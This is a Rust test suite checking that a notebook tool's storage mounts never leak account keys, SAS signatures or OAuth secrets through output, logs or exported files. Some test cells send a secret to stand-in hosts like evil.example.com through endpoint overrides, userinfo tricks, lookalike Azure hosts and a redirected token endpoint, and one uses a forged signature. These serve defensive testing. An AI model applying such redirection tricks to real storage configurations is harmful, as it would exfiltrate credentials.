//! The leak suite on mounts: an account's key, a signature, the secret of an application and its tokens come out nowhere,
//! whatever goes wrong with a mount and however it leaves.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use tempfile::TempDir;

use super::azurite::{ACCOUNT, Azurite, Container, FAR, KEY};
use super::oauth::{self, Authority, CLIENT_SECRET};
use crate::secrets::leaks::scanner::{found, found_in_files};
use crate::transcript::approve_scopes;

/// What is tried with a mount, and what is to come of it.
struct Case {
    name: &'static str,
    /// The cells, in which `SOURCE`, `ENDPOINT`, `SETTING`, `CONFIGS` stand for those of the container.
    cells: &'static [&'static str],
    /// What is shown.
    shows: &'static [&'static str],
    fails: bool,
    /// The secret: what is asked with, and its value.
    value: Value,
}

/// The value of a secret, by which a mount says who asks.
#[derive(Clone, Copy)]
enum Value {
    /// The key of the account, or one that is wrong.
    Key(&'static str),
    /// A signature with these permissions until a time.
    Sas(&'static str, &'static str),
    /// One that nobody made with the key of the account.
    ForgedSas,
    /// What is no signature.
    NoSas(&'static str),
    /// The secret of an application, or one that is wrong.
    Client(&'static str),
}

impl Value {
    /// Returns the text that is stored.
    fn text(self, container: &Container) -> String {
        match self {
            Self::Key(text) | Self::NoSas(text) | Self::Client(text) => text.to_owned(),
            Self::Sas(permissions, until) => container.sas(permissions, until),
            Self::ForgedSas => {
                let sas = container.sas("rwdl", FAR);
                let (before, _) = sas.split_once("&sig=").unwrap();
                format!("{before}&sig=Zm9yZ2VkLWZvcmdlZC1mb3JnZWQtZm9yZ2VkLWZvcmdlZC0%3D")
            }
        }
    }

    fn is_client(self) -> bool {
        matches!(self, Self::Client(_))
    }
}

/// A key of another account, which is as good a secret.
const WRONG: &str = "d3Jvbmcta2V5LW9mLWFuLWFjY291bnQtd2hpY2gtaXMtYXMtbG9uZy1hcy1hLXJlYWwtb25lLWlzISE=";

const MOUNT: &str =
    "dbutils.fs.mount(\"SOURCE\", \"/mnt/lake\", extra_configs={\"endpoint\": \"ENDPOINT\", CONFIGS})";

const CASE: Case = Case {
    name: "",
    cells: &[],
    shows: &[],
    fails: false,
    value: Value::Key(KEY),
};

const CASES: &[Case] = &[
    Case {
        name: "a table is read and shown",
        cells: &[MOUNT, "df = read_csv(\"/mnt/lake/a.csv\")\ndf"],
        shows: &["shape: (2, 1)"],
        ..CASE
    },
    Case {
        name: "a file is written, read and removed",
        cells: &[
            MOUNT,
            "dbutils.fs.put(\"/mnt/lake/new.txt\", \"{0}\".format(key), True)\nprint(dbutils.fs.head(\"/mnt/lake/new.txt\"))",
            "dbutils.fs.rm(\"/mnt/lake/new.txt\")",
        ],
        shows: &["{{secrets/storage/acctkey}}"],
        ..CASE
    },
    Case {
        name: "the mounts are listed",
        cells: &[MOUNT, "print(dbutils.fs.mounts())\ndbutils.fs.mounts()"],
        shows: &["│ /mnt/lake "],
        ..CASE
    },
    Case {
        name: "a file that is not there",
        cells: &[MOUNT, "read_csv(\"/mnt/lake/b.csv\")"],
        shows: &["/mnt/lake/b.csv does not exist"],
        fails: true,
        ..CASE
    },
    Case {
        name: "a wrong key",
        cells: &[MOUNT, "read_csv(\"/mnt/lake/a.csv\")"],
        shows: &["does not accept the credentials"],
        fails: true,
        value: Value::Key(WRONG),
    },
    Case {
        name: "a value that is no key",
        cells: &[MOUNT, "dbutils.fs.ls(\"/mnt/lake\")"],
        shows: &["it is no key of an account"],
        fails: true,
        value: Value::Key("not+a=key/but&a%secret"),
    },
    Case {
        name: "a host that no scope sends to",
        cells: &[
            "dbutils.fs.mount(\"SOURCE\", \"/mnt/lake\", extra_configs={\"endpoint\": \"https://evil.example.com/devstoreaccount1\", \"SETTING\": key})",
        ],
        shows: &["the value of {{secrets/storage/acctkey}} may not go to evil.example.com"],
        fails: true,
        ..CASE
    },
    Case {
        name: "a host that a row of data names, beside the true one",
        cells: &[
            "row = \"ENDPOINT\".replace(\"127.0.0.1\", \"127.0.0.1@evil.example.com\")\ndbutils.fs.mount(\"SOURCE\", \"/mnt/lake\", extra_configs={\"endpoint\": row, \"SETTING\": key})",
        ],
        shows: &["the setting \"endpoint\" cannot be used"],
        fails: true,
        ..CASE
    },
    Case {
        name: "an account that only looks like one of Azure",
        cells: &[
            "dbutils.fs.mount(\"wasbs://data@devstoreaccount1.blob.core.windows.net.evil.example.com\", \"/mnt/lake\", extra_configs={\"SETTING\": key})",
        ],
        shows: &["its host is not one of Azure's storage"],
        fails: true,
        ..CASE
    },
    Case {
        name: "a name that no server has",
        cells: &[
            "dbutils.fs.mount(\"SOURCE\", \"/mnt/lake\", extra_configs={\"endpoint\": \"https://no-such-host.invalid/devstoreaccount1\", \"SETTING\": key})",
            "dbutils.fs.ls(\"/mnt/lake\")",
        ],
        shows: &["the host no-such-host.invalid is not known"],
        fails: true,
        ..CASE
    },
    Case {
        name: "the key in a path, a source and a mount point",
        cells: &[
            MOUNT,
            "print([attempt for attempt in [\"/mnt/lake/{0}\".format(key), str(key), f\"{key}\"]])\nread_csv(f\"/mnt/lake/{key}.csv\")",
        ],
        shows: &["{{secrets/storage/acctkey}}.csv does not exist"],
        fails: true,
        ..CASE
    },
    Case {
        name: "a reference that a row of data has and no cell got",
        cells: &[
            "dbutils.fs.mount(\"SOURCE\", \"/mnt/lake\", extra_configs={\"endpoint\": \"ENDPOINT\", \"SETTING\": \"{{secrets/storage/other}}\"})",
        ],
        shows: &["{{secrets/storage/other}} is only a text here: no cell of this session got that secret"],
        fails: true,
        ..CASE
    },
    Case {
        name: "a URL with a password in it",
        cells: &["read_csv(\"wasbs://me:hunter22hunter22@acme.blob.core.windows.net/a.csv\")"],
        shows: &["the URL wasbs://…@acme.blob.core.windows.net/a.csv cannot be used"],
        fails: true,
        ..CASE
    },
    Case {
        name: "the source's own URL, and one of another container",
        cells: &[
            MOUNT,
            "print(read_csv(\"SOURCE/a.csv\").height)\nread_csv(\"wasbs://other@devstoreaccount1.blob.core.windows.net/a.csv\")",
        ],
        shows: &["2\n"],
        fails: true,
        ..CASE
    },
];

const SAS_CASE: Case = Case {
    value: Value::Sas("rwdl", FAR),
    ..CASE
};

const SAS_CASES: &[Case] = &[
    Case {
        name: "a table is read and shown with a signature",
        cells: &[MOUNT, "df = read_csv(\"/mnt/lake/a.csv\")\ndf"],
        shows: &["shape: (2, 1)"],
        ..SAS_CASE
    },
    Case {
        name: "files are copied by the server, written and removed with a signature",
        cells: &[
            MOUNT,
            "dbutils.fs.cp(\"/mnt/lake/a.csv\", \"/mnt/lake/b.csv\")\ndbutils.fs.put(\"/mnt/lake/c.txt\", \"{0}\".format(key), True)\nprint(dbutils.fs.head(\"/mnt/lake/c.txt\"))",
            "dbutils.fs.rm(\"/mnt/lake/c.txt\")\nprint(key)\ndbutils.fs.mounts()",
        ],
        shows: &["{{secrets/storage/acctkey}}", "│ /mnt/lake "],
        ..SAS_CASE
    },
    Case {
        name: "an expired signature",
        cells: &[MOUNT, "read_csv(\"/mnt/lake/a.csv\")"],
        shows: &["expired at 2024-01-01T00:00:00Z"],
        fails: true,
        value: Value::Sas("rwdl", "2024-01-01T00:00:00Z"),
    },
    Case {
        name: "a signature that nobody made",
        cells: &[MOUNT, "read_csv(\"/mnt/lake/a.csv\")"],
        shows: &["does not accept the credentials"],
        fails: true,
        value: Value::ForgedSas,
    },
    Case {
        name: "a signature for reading alone",
        cells: &[
            MOUNT,
            "read_csv(\"/mnt/lake/a.csv\").write_csv(\"/mnt/lake/b.csv\")",
        ],
        shows: &["does not allow it to these credentials"],
        fails: true,
        value: Value::Sas("rl", FAR),
    },
    Case {
        name: "a value that is no signature",
        cells: &[MOUNT, "dbutils.fs.ls(\"/mnt/lake\")"],
        shows: &["it is no signature"],
        fails: true,
        value: Value::NoSas("sv=1&not+a=signature%but/a-secret"),
    },
    Case {
        name: "a signature in the address of a file",
        cells: &[MOUNT, "read_csv(f\"SOURCE/a.csv?{key}\")"],
        fails: true,
        ..SAS_CASE
    },
];

const CLIENT_CASE: Case = Case {
    value: Value::Client(CLIENT_SECRET),
    ..CASE
};

const CLIENT_CASES: &[Case] = &[
    Case {
        name: "a table is read and shown by an application",
        cells: &[
            MOUNT,
            "df = read_csv(\"/mnt/lake/a.csv\")\ndf",
            "print(key)\ndbutils.fs.mounts()",
        ],
        shows: &["shape: (2, 1)", "{{secrets/storage/acctkey}}", "│ /mnt/lake "],
        ..CLIENT_CASE
    },
    Case {
        name: "a file that an application does not find",
        cells: &[MOUNT, "read_csv(f\"/mnt/lake/{key}.csv\")"],
        shows: &["{{secrets/storage/acctkey}}.csv does not exist"],
        fails: true,
        ..CLIENT_CASE
    },
    Case {
        name: "a wrong secret of an application, which the authority repeats",
        cells: &[MOUNT, "read_csv(\"/mnt/lake/a.csv\")"],
        shows: &["the client secret is wrong or has expired (AADSTS7000215)"],
        fails: true,
        value: Value::Client("a+wrong=secret&of~an%application"),
    },
    Case {
        name: "an authority that is reached without TLS and is not of this machine",
        cells: &[
            "configs = {\"endpoint\": \"ENDPOINT\", CONFIGS}\nconfigs[\"fs.azure.account.oauth2.client.endpoint\"] = \"http://evil.example.com/d/oauth2/token\"\ndbutils.fs.mount(\"SOURCE\", \"/mnt/lake\", extra_configs=configs)",
            "dbutils.fs.ls(\"/mnt/lake\")",
        ],
        fails: true,
        ..CLIENT_CASE
    },
];

/// The folders of one case, and the servers of its mount.
struct Scene {
    folder: TempDir,
    store: TempDir,
    container: Container,
    authority: Authority,
    secret: Value,
    value: String,
}

impl Scene {
    fn new(secret: Value) -> Self {
        let azurite = if secret.is_client() {
            Azurite::tls()
        } else {
            Azurite::plain()
        };
        let container = azurite.container();
        container.put("data/a.csv", "x\n1\n2\n");
        let value = secret.text(&container);
        let scene = Self {
            folder: tempfile::tempdir().unwrap(),
            store: tempfile::tempdir().unwrap(),
            container,
            authority: Authority::start(),
            secret,
            value,
        };
        fs::write(scene.store.path().join("acctkey"), &scene.value).unwrap();
        fs::write(scene.store.path().join("other"), "another").unwrap();
        for name in ["work", "home", "state", "tmp"] {
            fs::create_dir_all(scene.path(name)).unwrap();
        }
        let text = format!(
            "(secrets: {{\"storage\": (store: folder(path: {:?}), sinks: [\"127.0.0.1\", \"no-such-host.invalid\"])}})\n",
            scene.store.path().display().to_string()
        );
        fs::write(scene.path("work/sheaf.ron"), text).unwrap();
        approve_scopes(&scene.path("work"), &scene.path("state"));
        scene
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    fn cell(&self, text: &str) -> String {
        let configs = match self.secret {
            Value::Key(_) => "\"SETTING\": key".to_owned(),
            Value::Client(_) => oauth::configs(&self.authority.endpoint(), "key"),
            _ => format!("\"fs.azure.sas.fixed.token.{ACCOUNT}.blob.core.windows.net\": key"),
        };
        text.replace("CONFIGS", &configs)
            .replace("SOURCE", &self.container.source("data"))
            .replace("ENDPOINT", &self.container.azurite.endpoint())
            .replace(
                "SETTING",
                &format!("fs.azure.account.key.{ACCOUNT}.blob.core.windows.net"),
            )
    }

    fn sheaf(&self, arguments: &[&str], input: &str, leaks: &mut Vec<String>) -> Output {
        let mut command = Command::new(env!("CARGO_BIN_EXE_sheaf"));
        command
            .args(arguments)
            .current_dir(self.path("work"))
            .env_clear()
            .env("HOME", self.path("home"))
            .env("XDG_STATE_HOME", self.path("state"))
            .env("TMPDIR", self.path("tmp"))
            .env("RUST_LOG", "trace")
            .env("RUST_BACKTRACE", "1")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        if self.secret.is_client() {
            command.env("SSL_CERT_FILE", self.container.azurite.certificate());
        }
        let mut child = command.spawn().unwrap();
        // Where no input is read, nobody takes it.
        let _ = std::io::Write::write_all(&mut child.stdin.take().unwrap(), input.as_bytes());
        let output = child.wait_with_output().unwrap();
        for (stream, bytes) in [("output", &output.stdout), ("errors", &output.stderr)] {
            self.search(
                &format!("the {stream} of sheaf {}", arguments.join(" ")),
                bytes,
                leaks,
            );
        }
        output
    }

    fn search(&self, place: &str, bytes: &[u8], leaks: &mut Vec<String>) {
        for value in self.values() {
            leaks.extend(found(bytes, &value).map(|how| format!("{place} ({how})")));
        }
    }

    /// Returns the value, and what of it is as good as the whole: a signature without what it is for, and a token.
    fn values(&self) -> Vec<String> {
        let pairs = url::form_urlencoded::parse(self.value.as_bytes());
        let signature = pairs
            .filter(|(name, _)| name == "sig")
            .map(|(_, sig)| sig.into_owned());
        let tokens = self.authority.given();
        let last = tokens.iter().filter_map(|token| token.rsplit('.').next());
        let mut values = vec![self.value.clone()];
        values.extend(signature);
        values.extend(last.map(str::to_owned));
        values
    }

    fn search_files(&self, leaks: &mut Vec<String>) {
        let folders: [&Path; 1] = [self.folder.path()];
        for value in self.values() {
            leaks.extend(found_in_files(&folders, &value, &[]));
        }
    }
}

const GET: &str = "key = dbutils.secrets.get(scope=\"storage\", key=\"acctkey\")";

fn text(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned() + &String::from_utf8_lossy(&output.stderr)
}

/// Runs a case from a file, in every way in which results leave a run, and typed.
fn check(case: &Case) -> Vec<String> {
    let mut wrong = Vec::new();
    let scene = Scene::new(case.value);
    let mut leaks = Vec::new();
    let cells: Vec<String> = std::iter::once(GET)
        .chain(case.cells.iter().copied())
        .map(|cell| scene.cell(cell))
        .collect();
    let notebook: String = cells.iter().map(|cell| format!("# %%\n{cell}\n\n")).collect();
    fs::write(scene.path("work/a.py"), notebook).unwrap();
    let ran = scene.sheaf(&["run", "a.py", "--record"], "", &mut leaks);
    let typed = Scene::new(case.value);
    let mut typed_leaks = Vec::new();
    let lines: String = std::iter::once(GET)
        .chain(case.cells.iter().copied())
        .map(|cell| format!("{}\n\n", typed.cell(cell)))
        .collect();
    let shown = typed.sheaf(
        &[],
        &format!("{lines}%save b.py\n%export b.html\n%cells\n%who\n"),
        &mut typed_leaks,
    );
    typed.search_files(&mut typed_leaks);
    for (way, output, value) in [("headless", &ran, &scene.value), ("typed", &shown, &typed.value)] {
        let fails = output.status.code() != Some(0);
        let shown = text(output);
        let is_shown = |wanted: &&&str| !shown.contains(**wanted);
        wrong.extend(case.shows.iter().filter(is_shown).map(|wanted| {
            format!(
                "{}, {way}: {wanted:?} is not shown in\n{}",
                case.name,
                shown.replace(value, "<VALUE>")
            )
        }));
        if fails != case.fails {
            wrong.push(format!(
                "{}, {way}: fails is {fails}\n{}",
                case.name,
                shown.replace(value, "<VALUE>")
            ));
        }
    }
    for arguments in [
        &["run", "a.py", "--json"] as &[_],
        &["run", "a.py", "--resume"],
        &["run", "a.py", "--check", "--junit", "report.xml"],
        &["show", "a.py", "--outputs"],
        &["convert", "a.py", "--to", "html", "--out", "a.html"],
        &["convert", "a.py", "--to", "ipynb", "--out", "a.ipynb"],
        &["mount", "list"],
        &["mount", "list", "--json"],
        &["mount", "test", "/mnt/lake"],
        &["mount", "test", "/mnt/lake", "--json"],
        &["trust"],
    ] {
        scene.sheaf(arguments, "", &mut leaks);
    }
    scene.search_files(&mut leaks);
    leaks.extend(typed_leaks);
    wrong.extend(
        leaks
            .iter()
            .map(|leak| format!("{}: the value is in {leak}", case.name)),
    );
    wrong
}

/// Tries all cases, half of them at the same time as the others.
#[track_caller]
fn check_all(cases: &[Case]) {
    let (one, other) = cases.split_at(cases.len() / 2);
    let wrong = std::thread::scope(|scope| {
        let halves =
            [one, other].map(|half| scope.spawn(move || half.iter().flat_map(check).collect::<Vec<_>>()));
        halves.map(|half| half.join().unwrap()).concat()
    });
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn a_key_of_an_account_comes_out_nowhere() {
    check_all(CASES);
}

#[test]
fn a_signature_comes_out_nowhere() {
    check_all(SAS_CASES);
}

#[test]
fn a_secret_of_an_application_and_its_tokens_come_out_nowhere() {
    check_all(CLIENT_CASES);
}

#[test]
fn a_key_that_is_written_in_a_cell_is_in_nothing_that_sheaf_writes_but_the_notebook() {
    let scene = Scene::new(Value::Key(KEY));
    let mut leaks = Vec::new();
    let cell = scene.cell(MOUNT).replace(": key}", &format!(": \"{KEY}\"}}"));
    let lines = format!("{cell}\n\nread_csv(\"/mnt/lake/a.csv\")\n\n%cells\n%who\n");
    let shown = scene.sheaf(&[], &lines, &mut leaks);
    assert_eq!(
        shown.status.code(),
        Some(0),
        "{}",
        text(&shown).replace(KEY, "<VALUE>")
    );
    scene.search_files(&mut leaks);
    assert!(leaks.is_empty(), "{}", leaks.join("\n"));
    assert!(!scene.path("work/.sheaf/mounts.ron").exists());
}
